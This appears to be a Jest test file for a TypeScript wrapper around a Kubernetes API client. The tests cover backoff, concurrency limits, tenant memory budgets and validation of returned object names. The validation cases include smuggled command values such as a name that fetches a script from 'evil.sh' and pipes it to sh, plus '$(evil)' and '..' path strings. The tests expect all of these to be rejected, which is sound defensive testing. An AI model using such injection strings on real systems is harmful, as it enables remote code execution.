import { describe, expect, test } from '@jest/globals';
import { SharedMemory, type TenantBudget } from '../../kubernetes/budget.ts';
import type { ApiServer } from '../../kubernetes/cluster.ts';
import { ApiError, Busy, Unreachable } from '../../kubernetes/errors.ts';
import { VIRTUAL_MACHINES } from '../../kubernetes/live-resources.ts';
import { NAMESPACES } from '../../kubernetes/resources.ts';
import type { KubernetesObject } from '../../domain/objects.ts';
import { BoundedCluster } from './bounded-cluster.ts';

interface Asked {
  readonly cluster: BoundedCluster;
  readonly failures: unknown[];
  /** The requests that were sent. */
  readonly sent: () => number;
  readonly pass: (ms: number) => void;
  readonly spend: (ms: number) => void;
  /** The waits, milliseconds. */
  readonly waits: number[];
}

function aCluster(
  answer: () => Promise<string>,
  budget: TenantBudget = new SharedMemory(100).newBudget(),
): Asked {
  let [now, sent] = [0, 0];
  const [failures, waits]: [unknown[], number[]] = [[], []];
  const clock = {
    elapsed: () => now,
    now: () => new Date(0),
    after: (ms: number, work: () => void) => {
      waits.push(ms);
      now += ms;
      setImmediate(work);
      return () => undefined;
    },
  };
  const version = (): Promise<string> => {
    sent += 1;
    return answer();
  };
  const client = { version } as unknown as ApiServer;
  return {
    cluster: new BoundedCluster(client, { budget, clock, onFailure: (error) => failures.push(error) }),
    ...{ failures, waits, sent: () => sent, pass: (ms) => (now += ms), spend: (ms) => budget.spend(ms) },
  };
}

const failed = (cluster: BoundedCluster): Promise<unknown> =>
  cluster.version().catch((error: unknown) => error);

describe('BoundedCluster', () => {
  test('a server that fails gets no request for a while, twice as long each time, until it answers', async () => {
    let isGood = false;
    const { cluster, sent, pass, failures } = aCluster(() =>
      isGood ? Promise.resolve('v1') : Promise.reject(new Error('ECONNREFUSED 10.0.0.1:22')),
    );
    for (const restMs of [1_000, 2_000, 4_000, 8_000, 16_000, 30_000, 30_000]) {
      const before = sent();
      expect(await failed(cluster)).toEqual(new Unreachable('the API server cannot be reached'));
      pass(restMs - 1);
      await failed(cluster);
      expect(sent()).toBe(before + 1);
      pass(1);
    }
    expect(failures).toHaveLength(7);
    isGood = true;
    expect(await cluster.version()).toBe('v1');
    isGood = false;
    await failed(cluster);
    pass(1_000);
    await failed(cluster);
    expect(failures).toHaveLength(9);
  });

  test('a refusal is an answer', async () => {
    const { cluster, sent } = aCluster(() => Promise.reject(new ApiError('GET', { code: 403 }, new Date(0))));
    for (let asked = 0; asked < 3; asked += 1) expect(await failed(cluster)).toBeInstanceOf(ApiError);
    expect(sent()).toBe(3);
  });

  test('four requests are sent at once, and one until a server has answered', async () => {
    let answer = Promise.withResolvers<string>();
    const { cluster, sent } = aCluster(() => answer.promise);
    const askAll = (): Promise<string[]> => Promise.all(Array.from({ length: 20 }, () => cluster.version()));
    const first = askAll();
    await new Promise((next) => setImmediate(next));
    expect(sent()).toBe(1);
    answer.resolve('v1');
    await first;
    answer = Promise.withResolvers();
    const second = askAll();
    await new Promise((next) => setImmediate(next));
    expect(sent()).toBe(20 + 4);
    answer.resolve('v1');
    await second;
    expect(sent()).toBe(40);
  });

  test('of twenty requests at once to a server that fails one is sent', async () => {
    const { cluster, sent } = aCluster(() => Promise.reject(new Unreachable('no answer')));
    const asked = await Promise.allSettled(Array.from({ length: 20 }, () => cluster.version()));
    expect(asked.filter(({ status }) => status === 'rejected')).toHaveLength(20);
    expect(sent()).toBe(1);
  });

  test('no memory for an answer is no failure of the server: it gets no rest', async () => {
    const { cluster, sent, failures } = aCluster(() => Promise.reject(new Busy('too much')));
    for (let asked = 0; asked < 3; asked += 1) expect(await failed(cluster)).toBeInstanceOf(Busy);
    expect([sent(), failures]).toEqual([3, []]);
  });

  test('a server waits for what the other servers of its tenant have spent, and no other one does', async () => {
    const budget = new SharedMemory(100).newBudget();
    const [hostile, other] = [0, 1].map(() => aCluster(() => Promise.resolve('v1'), budget));
    const foreign = aCluster(() => Promise.resolve('v1'));
    hostile?.spend(100);
    await Promise.all([other?.cluster.version(), foreign.cluster.version()]);
    expect([other?.waits, foreign.waits]).toEqual([[400], []]);
  });

  test('the servers of one tenant answer twelve requests at once', async () => {
    const budget = new SharedMemory(100).newBudget();
    const { promise, resolve } = Promise.withResolvers<string>();
    const servers = Array.from({ length: 20 }, () => aCluster(() => promise, budget));
    const answers = Promise.all(servers.map(({ cluster }) => cluster.version()));
    await new Promise((next) => setImmediate(next));
    expect(servers.map(({ sent }) => sent()).filter((sent) => sent > 0)).toHaveLength(12);
    resolve('v1');
    await answers;
  });

  test('a server whose answers keep the process busy waits four times as long', async () => {
    const { cluster, spend, waits } = aCluster(() => Promise.resolve('v1'));
    await cluster.version();
    spend(100);
    await cluster.version();
    expect(waits).toEqual([400]);
  });
});

const AT = { namespace: 'vms', name: 'web' };
const named = (other: object): KubernetesObject =>
  ({ metadata: { namespace: 'vms', name: 'web', uid: '6f1f3fb2-9e4a', ...other } }) as never;

/** A client of a server that answers each request with this object. */
function answering(object: KubernetesObject): ApiServer {
  const date = new Date(0);
  const one = (): Promise<unknown> => Promise.resolve({ object, date });
  const client = {
    ...{ get: one, create: one, replace: one, patch: one },
    list: () => Promise.resolve({ items: [named({}), object], resourceVersion: '7', date }),
    async *watch() {
      yield await Promise.resolve({ type: 'MODIFIED', object });
    },
  } as unknown as ApiServer;
  const clock = { elapsed: () => 0, now: () => date, after: () => () => undefined };
  const budget = new SharedMemory(100).newBudget();
  return new BoundedCluster(client, { budget, clock, onFailure: () => undefined });
}

const OF_ONE: Readonly<Record<string, (cluster: ApiServer) => Promise<unknown>>> = {
  get: (cluster) => cluster.get(VIRTUAL_MACHINES, AT),
  create: (cluster) => cluster.create(VIRTUAL_MACHINES, { metadata: AT } as never),
  replace: (cluster) => cluster.replace(VIRTUAL_MACHINES, named({}) as never),
  patch: (cluster) => cluster.patch(VIRTUAL_MACHINES, AT, { merge: {} }),
};
const OF_MANY: typeof OF_ONE = {
  list: (cluster) => cluster.list(VIRTUAL_MACHINES, {}),
  'list of a namespace': (cluster) => cluster.list(VIRTUAL_MACHINES, { namespace: 'vms' }),
  watch: async (cluster) => {
    for await (const event of cluster.watch(VIRTUAL_MACHINES, FROM, new AbortController().signal))
      return event;
    return undefined;
  },
};
const FROM = { resourceVersion: '7' };

const isTaken = (ask: (cluster: ApiServer) => Promise<unknown>, other: object): Promise<boolean> =>
  ask(answering(named(other))).then(
    () => true,
    (error: unknown) => {
      if (error instanceof Unreachable) return false;
      throw error;
    },
  );

describe.each(Object.entries({ ...OF_ONE, ...OF_MANY }))('an answer to a %s', (verb, ask) => {
  test.each<[string, object, boolean]>([
    ['as Kubernetes gives it', {}, true],
    ['a command for a name', { name: 'web;curl${IFS}evil.sh|sh;:' }, false],
    ['a path for a name', { name: '..' }, false],
    ['no text for a name', { name: ['web'] }, false],
    ['a command for a namespace', { namespace: '$(evil)' }, false],
    ['no namespace', { namespace: undefined }, false],
    ['no text for a uid', { uid: {} }, false],
    ['lines for a uid', { uid: 'a\nb' }, false],
    ['a uid without an end', { uid: 'a'.repeat(1_000) }, false],
    ['another name than was asked for', { name: 'db' }, verb in OF_MANY],
    ['another namespace', { namespace: 'kube-system' }, ['list', 'watch'].includes(verb)],
  ])('%s', async (_what, other, wanted) => {
    expect(await isTaken(ask, other)).toBe(wanted);
  });
});

test.each<[string, object, boolean]>([
  ['has no namespace', { namespace: undefined, name: 'vms' }, true],
  ['may not have one', { name: 'vms' }, false],
])('an object of the cluster %s', async (_what, other, wanted) => {
  // Its address may have one: the same reader reads instance types of both kinds.
  expect(await isTaken((cluster) => cluster.get(NAMESPACES, { namespace: 'x', name: 'vms' }), other)).toBe(
    wanted,
  );
});

test('of one that is listed no namespace may be kept', async () => {
  const { apiVersion, kind, plural, namespaced } = VIRTUAL_MACHINES;
  const type = { apiVersion, kind, plural, namespaced, trim: () => undefined };
  const ask = (cluster: ApiServer): Promise<unknown> => cluster.list(type, {});
  expect(
    await Promise.all([{ namespace: undefined }, { namespace: '..' }].map((other) => isTaken(ask, other))),
  ).toEqual([true, false]);
});
